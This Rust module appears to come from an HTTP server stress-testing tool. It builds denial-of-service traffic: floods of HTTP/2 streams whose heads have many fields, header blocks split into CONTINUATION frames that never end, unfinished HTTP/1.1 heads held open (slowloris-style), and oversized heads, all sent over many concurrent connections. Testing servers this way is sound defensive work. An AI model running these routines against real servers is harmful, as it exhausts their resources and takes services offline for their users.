//! Heads of requests that take more than their bytes: very many at once, of many fields, large ones, and those that do not end.

use std::{iter::repeat_n, sync::Arc, time::Duration};

use anyhow::Result;
use tokio::{task::JoinSet, time::timeout};

use super::{
    Http2Peer, PeerBehaviour,
    attack::Held,
    frame::{Frame, MAX_PAYLOAD, flag, kind},
    hpack,
    http2::head_of_post,
};
use crate::raw::{Connection, Dialer};

/// How long an attacker waits for a server that does not read what was sent.
const STALL: Duration = Duration::from_secs(1);

/// How many connections are opened at the same time. More would displace each other in their handshakes.
const AT_A_TIME: usize = 32;

/// The fields of a long head have this length, the HTTP/1.1 line with its end.
const FIELD: usize = 640;

/// Opens `connections` connections. Refused ones are not tried again.
///
/// # Errors
/// If the TLS side cannot be configured.
pub async fn connections(dialer: &Arc<Dialer>, connections: usize) -> Result<Vec<Connection>> {
    let connector = dialer.connector()?;
    let mut openers = JoinSet::new();
    for number in 0..AT_A_TIME {
        let share = connections / AT_A_TIME + usize::from(number < connections % AT_A_TIME);
        let (dialer, connector) = (Arc::clone(dialer), connector.clone());
        openers.spawn(async move {
            let mut opened = Vec::new();
            for _ in 0..share {
                opened.extend(dialer.connect_with(&connector).await.ok());
            }
            opened
        });
    }
    Ok(openers.join_all().await.into_iter().flatten().collect())
}

/// Opens `connections` HTTP/2 connections whose settings both sides have. Refused ones are not tried again. `dialer` must offer `h2`.
///
/// # Errors
/// If the TLS side cannot be configured, or the server chose another protocol.
pub async fn peers(dialer: &Arc<Dialer>, connections: usize) -> Result<Vec<Http2Peer>> {
    let mut peers = Vec::new();
    for connection in self::connections(dialer, connections).await? {
        peers.push(Http2Peer::over(connection, PeerBehaviour::GOOD).await?);
    }
    // The server may have ended some: then they take no part.
    let mut open = Vec::new();
    for peer in peers {
        if peer.has_read_all().await.is_ok() {
            open.push(peer);
        }
    }
    Ok(open)
}

/// Sends what `request` makes for each of `streams` new streams of each connection, all of a connection in one write.
pub async fn at_once(
    peers: Vec<Http2Peer>,
    streams: usize,
    request: impl Fn(u32) -> Vec<u8>,
) -> Held {
    let mut attackers = JoinSet::new();
    for mut peer in peers {
        let requests: Vec<u8> = (0..streams).flat_map(|_| request(peer.new_stream())).collect();
        attackers.spawn(async move {
            // The server may read none of it, or end the connection.
            timeout(STALL, peer.send_bytes(&requests)).await.ok();
            peer
        });
    }
    Held { http2: attackers.join_all().await, ..Held::default() }
}

/// Sends heads of `fields` fields besides those that every head has, and nothing else of their requests, on `streams` streams of
/// each of `connections` connections, which are all open before the first sends anything. Each field but the first is one byte on the
/// wire. `dialer` must offer `h2`.
///
/// # Errors
/// As [`peers`].
pub async fn heads_of_many_fields(
    dialer: &Arc<Dialer>,
    target: &str,
    (connections, streams): (usize, usize),
    fields: usize,
) -> Result<Held> {
    let block = [head_of_post(target), hpack::unfolding(1, fields)].concat();
    heads(dialer, &block, (connections, streams)).await
}

/// Sends short heads, and nothing else of their requests, on `streams` streams of each of `connections` connections, which are all
/// open before the first sends anything. `dialer` must offer `h2`.
///
/// # Errors
/// As [`peers`].
pub async fn short_heads(
    dialer: &Arc<Dialer>,
    target: &str,
    (connections, streams): (usize, usize),
) -> Result<Held> {
    heads(dialer, &head_of_post(target), (connections, streams)).await
}

async fn heads(
    dialer: &Arc<Dialer>,
    block: &[u8],
    (connections, streams): (usize, usize),
) -> Result<Held> {
    let head = |stream| Frame::new(kind::HEADERS, flag::END_HEADERS, stream, block).encode();
    Ok(at_once(peers(dialer, connections).await?, streams, head).await)
}

/// Sends about `bytes` bytes of a head that does not end over each of `connections` HTTP/1.1 connections.
///
/// # Errors
/// As [`connections`].
pub async fn endless_http1(
    dialer: &Arc<Dialer>,
    target: &str,
    connections: usize,
    bytes: usize,
) -> Result<Held> {
    let head = begin_of_head(target, bytes);
    Ok(sent_over(self::connections(dialer, connections).await?, &head).await)
}

/// Sends about `bytes` bytes of a header block that does not end over each of `connections` HTTP/2 connections. `dialer` must offer
/// `h2`.
///
/// # Errors
/// As [`peers`].
pub async fn endless_http2(
    dialer: &Arc<Dialer>,
    target: &str,
    connections: usize,
    bytes: usize,
) -> Result<Held> {
    let value = "y".repeat(FIELD);
    let more = hpack::encode(repeat_n(("x", value.as_str()), bytes / FIELD));
    let block = [head_of_post(target), more].concat();
    let mut attackers = JoinSet::new();
    for mut peer in peers(dialer, connections).await? {
        let stream = peer.new_stream();
        let parts = block.chunks(MAX_PAYLOAD).enumerate().map(|(number, part)| {
            let kind = if number == 0 { kind::HEADERS } else { kind::CONTINUATION };
            Frame::new(kind, 0, stream, part).encode()
        });
        let parts = parts.collect::<Vec<_>>().concat();
        attackers.spawn(async move {
            // The settings are acknowledged already: nothing may come between the frames of a head.
            timeout(STALL, peer.send_bytes(&parts)).await.ok();
            peer
        });
    }
    Ok(Held { http2: attackers.join_all().await, ..Held::default() })
}

/// Sends `bytes` over each HTTP/1.1 connection, and reads nothing.
pub async fn sent_over(connections: Vec<Connection>, bytes: &[u8]) -> Held {
    let bytes: Arc<[u8]> = Arc::from(bytes);
    let mut attackers = JoinSet::new();
    for mut connection in connections {
        let bytes = Arc::clone(&bytes);
        attackers.spawn(async move {
            // The server may read no more, or end the connection.
            timeout(STALL, connection.send(bytes)).await.ok();
            connection
        });
    }
    Held { http1: attackers.join_all().await, ..Held::default() }
}

/// A POST over HTTP/1.1 whose head has about `bytes` bytes.
pub fn post_with_large_head(target: &str, bytes: usize, body: &str) -> Vec<u8> {
    let end = format!("Content-Length: {}\r\n\r\n{body}", body.len());
    [begin_of_head(target, bytes), end.into_bytes()].concat()
}

/// Whole lines, but not the last one of the head.
fn begin_of_head(target: &str, bytes: usize) -> Vec<u8> {
    let line = format!("x: {}\r\n", "y".repeat(FIELD - 5));
    format!("POST {target} HTTP/1.1\r\nHost: localhost\r\n{}", line.repeat(bytes / FIELD))
        .into_bytes()
}
